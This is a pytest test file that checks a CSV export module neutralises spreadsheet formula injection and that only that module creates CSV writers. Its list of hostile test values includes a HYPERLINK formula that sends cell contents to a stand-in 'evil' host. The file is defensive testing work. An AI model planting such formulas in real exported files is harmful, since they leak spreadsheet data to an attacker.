"""CSV cells are never spreadsheet formulas, and every CSV writer goes through csv_export."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from borderlink.csv_export import SafeCsvWriter, csv_text, dict_rows, neutral_cell

SRC = Path(__file__).resolve().parents[1] / "src" / "borderlink"
HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_prefixed(value: str) -> None:
    assert neutral_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["陈志明", "CHAN Tai-man", "a=b", "", 3, -3, 2.5, True])
def test_other_values_are_unchanged(value: object) -> None:
    assert neutral_cell(value) == value
    assert neutral_cell(None) == ""


def test_writer_and_text_round_trip_the_neutralised_cells() -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([HOSTILE])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + v for v in HOSTILE]
    text = csv_text(["name", "n"], dict_rows(["name", "n"], [{"name": "=1+1", "n": -1}]))
    assert text == "name,n\r\n'=1+1,-1\r\n"


def test_no_module_but_csv_export_builds_a_csv_writer() -> None:
    """The synthetic generator writes deliveries (input), not exports: it is exempt."""
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC)
        if rel.parts[0] == "synth" or rel == Path("csv_export.py"):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                and node.attr in {"writer", "DictWriter"}
            ):
                offenders.append(str(rel))
    assert offenders == []
